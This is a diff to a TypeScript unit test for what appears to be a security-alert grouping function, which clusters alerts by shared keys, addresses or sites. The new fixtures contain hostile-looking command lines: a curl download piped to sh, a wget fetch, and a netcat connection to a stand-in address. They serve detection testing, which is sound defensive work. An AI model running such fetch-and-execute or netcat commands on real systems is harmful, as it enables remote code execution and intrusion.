@@ -66,9 +66,14 @@ describe('alerts', () => {
     ).toEqual([1, 2, 3]);
   });
 
-  it('join by a cloud key in their details', () => {
+  it('join by a cloud key, an address or a site in their details', () => {
     const key = { customDetails: { Keys: ['AKIAIOSFODNN7EXAMPLE'] } };
     expect(place([alert([], 0, key), alert([], 1, key), alert([], 1)])).toEqual([1, 1, 2]);
+    const says = (...lines: string[]) => ({ customDetails: { CommandLine: lines } });
+    const fetches = says('curl -s http://203.0.113.7/x | sh', 'wget https://a.b.example/y');
+    expect(
+      place([alert([], 0, fetches), alert([], 1, says('nc 203.0.113.7 443')), alert([], 1, says('ping 10.0.0.1'))]),
+    ).toEqual([1, 1, 2]);
   });
 });
 
